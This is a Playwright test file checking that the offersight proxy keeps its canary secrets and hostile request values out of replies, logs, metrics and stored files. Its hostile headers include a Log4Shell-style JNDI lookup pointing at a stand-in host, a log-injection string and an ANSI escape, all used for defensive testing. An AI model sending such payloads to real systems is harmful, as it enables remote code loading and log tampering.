/** The standalone proxy shows nothing of its secrets and of hostile requests in any reply, log line or figure. */
import { type ChildProcess, spawn } from 'node:child_process';
import { once } from 'node:events';
import { mkdtemp, readdir, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer, request, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { test } from '@playwright/test';
import { signOffer } from 'offersight/proxy';
import { hasPostgres, startPostgres } from '../../test/support/postgres.js';
import { bePatient, expect } from '../fixtures/patience.js';

const API_KEY = 'test_CANARYkey7Gq1x';
const ADMIN_TOKEN = 'CANARYadmin-token-of-thirty-two-characters';
const SIGNING_SECRET = 'CANARYsigning-secret-of-thirty-two-characters';
const SECRETS = ['CANARY', btoa(`${API_KEY}:`), btoa(API_KEY)];
/** Part of everything hostile. It must not come back anywhere. */
const MARK = 'q7ZxMark';
const PAGE = { 'content-type': 'application/json', 'sec-fetch-site': 'same-origin' };

const idOf = (number: number): string => `018f5a5e-7a00-7000-8000-${String(number).padStart(12, '0')}`;
/** Events with their tokens, since a proxy with a signing secret takes no others. */
const body = async (...numbers: number[]): Promise<string> => {
  const now = Date.now();
  const events = numbers.map(async (number) => {
    const id = `${MARK}-${number}`;
    const token = await signOffer({ id, expiresAt: now + 600_000 }, SIGNING_SECRET);
    return { id: idOf(number), type: 'viewed', personalized_offer_id: id, occurred_at: now, token };
  });
  return JSON.stringify({ v: 1, sent_at: now, events: await Promise.all(events) });
};

interface Program {
  readonly child: ChildProcess;
  /** Everything that it wrote so far. */
  text(): string;
  ended(): Promise<number | null>;
}

const run = (folder: string, args: readonly string[], env: Record<string, string> = {}): Program => {
  const child = spawn(process.execPath, [join(process.cwd(), 'dist/proxy/cli.js'), ...args], {
    cwd: folder,
    env: { PATH: process.env.PATH ?? '', ...env },
  });
  let text = '';
  for (const stream of [child.stdout, child.stderr])
    stream.setEncoding('utf8').on('data', (chunk: string) => {
      text += chunk;
    });
  const closing = once(child, 'close');
  return {
    child,
    text: () => text,
    async ended() {
      const [code] = (await closing) as [number | null];
      return code;
    },
  };
};

let folder: string;
let upstream: Server;
let baseUrl: string;
/** The status of the upstream's answers. Unless it is 204, they show everything that the upstream was sent. */
let status = 204;

// biome-ignore lint/correctness/noEmptyPattern: Playwright reads the pattern's names.
test.beforeEach(async ({}, testInfo) => {
  bePatient(testInfo, 120_000);
  folder = await mkdtemp(join(tmpdir(), 'offersight-'));
  status = 204;
  upstream = createServer((incoming, outgoing) => {
    const shown = JSON.stringify({
      message: incoming.headers,
      api_error_code: incoming.headers.authorization,
      param: atob((incoming.headers.authorization ?? '').replace('Basic ', '')),
    });
    incoming.resume().on('end', () => outgoing.writeHead(status).end(status === 204 ? '' : shown));
  });
  upstream.listen(0, '127.0.0.1');
  await once(upstream, 'listening');
  baseUrl = `http://127.0.0.1:${(upstream.address() as AddressInfo).port}`;
});

test.afterEach(async () => {
  upstream.close();
  upstream.closeAllConnections();
  await once(upstream, 'close');
  await rm(folder, { recursive: true });
});

/** Starts the proxy and returns its address. */
const startProxy = async (args: readonly string[] = []): Promise<Program & { readonly url: string }> => {
  const program = run(
    folder,
    ['proxy', '--site', 'acme-test', '--port', '0', '--base-url', baseUrl, '--drain-seconds', '0', ...args],
    {
      OFFERSIGHT_API_KEY: API_KEY,
      OFFERSIGHT_ADMIN_TOKEN: ADMIN_TOKEN,
      OFFERSIGHT_SIGNING_SECRET: SIGNING_SECRET,
    },
  );
  await expect.poll(() => program.text()).toContain('"listening"');
  const url = /"url":"([^"]+)"/.exec(program.text())?.[1];
  if (!url) throw new Error(program.text());
  return { ...program, url };
};

/** Returns the whole reply as a string. It does not use fetch, which forbids much of what an attacker may send. */
const ask = (
  url: string,
  method: string,
  headers: Record<string, string | string[]>,
  text = '',
): Promise<string> =>
  new Promise((resolve) => {
    const asking = request(url, { method, headers, agent: false }, (reply) => {
      let said = `${reply.statusCode} ${JSON.stringify(reply.headers)}`;
      reply.setEncoding('utf8').on('data', (chunk: string) => {
        said += chunk;
      });
      reply.on('close', () => resolve(said));
    });
    asking.on('error', (error) => resolve(`cut: ${error.message}`));
    asking.end(text);
  });

const HOSTILE: Readonly<Record<string, string>> = {
  'user-agent': `${MARK}\t\${jndi:ldap://${MARK}.example/a}`,
  referer: `https://${MARK}.example/`,
  cookie: `session=${MARK}`,
  'x-forwarded-for': `${MARK}, 198.51.100.7`,
  'x-request-id': `${MARK}"}\\n{"level":"error"`,
};

test('no reply, log line, figure or file contains a secret or a value of a request (attacks 53, 59)', async () => {
  const { child, url, text, ended } = await startProxy();
  const endpoint = `${url}/offer-events`;
  const replies: string[] = [];
  // What the log says of an answer, which is waited for: until the site has taken an event, a 400 decides nothing.
  const saying = new Map([
    [204, /"outcome":"done"/],
    [400, /"outcome":"refused"/],
    [401, /check the key/],
  ]);
  for (const [at, code] of [204, 400, 401, 403, 404, 422, 429, 500].entries()) {
    status = code;
    replies.push(await ask(endpoint, 'POST', { ...PAGE, ...HOSTILE }, await body(at + 1, at + 100)));
    await expect.poll(text).toMatch(saying.get(code) ?? /./);
  }
  const good = await body(1);
  for (const bad of [
    '{',
    ...[API_KEY, ADMIN_TOKEN, SIGNING_SECRET].map((secret) =>
      good.replace(/"token":"[^"]+"/, `"token":"${secret}"`),
    ),
    `{"v":1,"${MARK}\u001b[31m":1}`,
    await body(),
    good.replace('viewed', MARK),
  ])
    replies.push(await ask(endpoint, 'POST', { ...PAGE, ...HOSTILE }, bad));
  for (const headers of [
    {},
    { 'sec-fetch-site': MARK },
    { ...PAGE, 'content-type': MARK },
    { ...PAGE, expect: MARK },
  ])
    replies.push(await ask(endpoint, 'POST', { ...HOSTILE, ...headers }, await body(1)));
  replies.push(await ask(endpoint, 'POST', { ...PAGE, 'user-agent': MARK.repeat(100_000) }, await body(1)));
  for (const method of ['GET', 'HEAD', 'PUT', 'TRACE', 'OPTIONS', 'DELETE']) {
    for (const path of [
      '/offer-events',
      `/${MARK}`,
      `/admin/${MARK}`,
      '/admin/status',
      '/metrics',
      '/healthz',
      '/readyz',
    ])
      replies.push(await ask(`${url}${path}?a=${MARK}`, method, HOSTILE));
  }
  for (const authorization of [
    'Bearer ',
    `Bearer ${MARK}`,
    `Basic ${btoa(MARK)}`,
    `Bearer ${ADMIN_TOKEN}x`,
    ADMIN_TOKEN,
  ])
    for (const path of ['status', 'events', 'dead-letters'])
      replies.push(await ask(`${url}/admin/${path}`, 'GET', { ...HOSTILE, authorization }));
  replies.push(await ask(`${url}/offersight.js`, 'GET', {}), await ask(`${url}/metrics`, 'GET', {}));
  expect(replies.filter((reply) => reply.startsWith('200 ')).length).toBeGreaterThan(8);
  expect(replies.join('\n')).toContain('offersight_requests_total');

  const listing = await ask(`${url}/admin/events`, 'GET', { authorization: `Bearer ${ADMIN_TOKEN}` });
  expect(listing).toContain(`${MARK}-1`);
  child.kill('SIGTERM');
  expect(await ended()).toBe(0);

  const shown = [...replies, text()];
  for (const secret of [...SECRETS, MARK]) {
    expect(
      shown.filter((each) => each.includes(secret)),
      secret,
    ).toEqual([]);
  }
  const kept = await Promise.all(
    (await readdir(folder)).map((name) => readFile(join(folder, name), 'latin1')),
  );
  const listed = ['status', 'events', 'dead-letters list'].map(async (words) => {
    const program = run(folder, words.split(' '));
    await program.ended();
    return program.text();
  });
  const known = [listing, ...kept, ...(await Promise.all(listed))].join('\n');
  expect(known).toContain('SQLite format 3');
  expect(known).toContain('refused by Chargebee');
  expect(SECRETS.filter((secret) => known.includes(secret))).toEqual([]);
  const lines = text().trim().split('\n');
  const levels = lines.map((line) => (JSON.parse(line) as { level: string }).level);
  expect(levels.filter((level) => level !== 'info' && level !== 'error')).toEqual([]);
  expect(text()).not.toContain(idOf(1));
});

test('the log names what Postgres refuses by its code, without the values of the event (attack 59)', async () => {
  test.skip(!hasPostgres, 'there is no Postgres');
  const postgres = await startPostgres();
  try {
    const { child, url, text, ended } = await startProxy(['--intake', postgres.url]);
    await expect.poll(() => ask(`${url}/readyz`, 'GET', {})).toMatch(/^200 /);
    await postgres.ask(
      `ALTER TABLE offersight.events ADD CONSTRAINT narrow CHECK (offer_id NOT LIKE '${MARK}%')`,
    );
    const reply = await ask(`${url}/offer-events`, 'POST', { ...PAGE, ...HOSTILE }, await body(3));
    expect(reply).toMatch(/^503 /);
    await expect.poll(text).toMatch(/"message":"Events could not be taken.*"cause":"PostgresError"/);
    child.kill('SIGTERM');
    await ended();
    expect([...SECRETS, MARK, idOf(3)].filter((secret) => `${reply}${text()}`.includes(secret))).toEqual([]);
  } finally {
    await postgres.remove();
  }
});

test('the log contains ids on request, and nothing else of a request (attack 59)', async () => {
  const { child, url, text, ended } = await startProxy(['--log-ids']);
  await ask(`${url}/offer-events`, 'POST', { ...PAGE, ...HOSTILE }, await body(7));
  await expect.poll(text).toContain(idOf(7));
  child.kill('SIGTERM');
  await ended();
  expect(text().replaceAll(`${MARK}-7`, '')).not.toContain(MARK);
});

test('a flood of bad requests does not fill the log (attack 60)', async () => {
  const { child, url, text, ended } = await startProxy();
  const flood = async (): Promise<void> => {
    for (let left = 150; left > 0; left--) await ask(`${url}/offer-events`, 'POST', PAGE, '{');
  };
  const startedAt = Date.now();
  await Promise.all(Array.from({ length: 10 }, flood));
  const seconds = Math.ceil((Date.now() - startedAt) / 1_000) + 1;
  child.kill('SIGTERM');
  await ended();
  const lines = text()
    .split('\n')
    .filter((line) => line.includes('"request"'));
  expect(lines.length).toBeLessThanOrEqual(20 * seconds);
  expect(lines.length).toBeGreaterThan(0);
});

test('a proxy with a wrong secret or intake ends at once with one line, which says what to set and has no secret (attacks 52, 53)', async () => {
  const file = join(folder, 'key');
  await writeFile(file, `${API_KEY} with more behind it\n`);
  const key = { OFFERSIGHT_API_KEY: API_KEY };
  const argument = /Secrets are not taken as arguments/;
  const whole = /Set OFFERSIGHT_API_KEY or OFFERSIGHT_API_KEY_FILE to the whole key/;
  const tries: [args: string[], env: Record<string, string>, words: RegExp][] = [
    [['--api-key', API_KEY], {}, argument],
    [[`--api-key=${API_KEY}`], {}, argument],
    [[`--admin-token=${ADMIN_TOKEN}`], key, argument],
    [['--signing-secret', SIGNING_SECRET], key, argument],
    [['--api-kee', API_KEY], {}, /Unknown option --api-kee/],
    [[API_KEY], key, /Too many arguments/],
    [['--api-key-file', file], {}, whole],
    [['--api-key-file', join(folder, 'CANARY')], {}, /cannot be read/],
    [[], { OFFERSIGHT_API_KEY: `${API_KEY} key` }, whole],
    [[], { OFFERSIGHT_API_KEY: `https://x.example/?key=${API_KEY}` }, whole],
    [[], { ...key, OFFERSIGHT_SIGNING_SECRET: 'CANARY' }, /Set OFFERSIGHT_SIGNING_SECRET or .*at least 32/],
    [[], { ...key, OFFERSIGHT_ADMIN_TOKEN: 'CANARY' }, /Set OFFERSIGHT_ADMIN_TOKEN or .*at least 32/],
    [['--intake', 'sqlite:'], key, /sqlite:FILE/],
    [['--intake', 'sqlite:/nowhere/at/all.db'], key, /create its folder/],
  ];
  for (const [args, env, words] of tries) {
    const program = run(folder, ['proxy', '--site', 'acme-test', '--port', '0', ...args], env);
    expect([await program.ended(), args]).toEqual([1, args]);
    expect(program.text()).toMatch(words);
    expect(program.text()).toMatch(/^offersight: [A-Z].+\n$/);
    expect(program.text()).not.toContain('CANARY');
  }
});
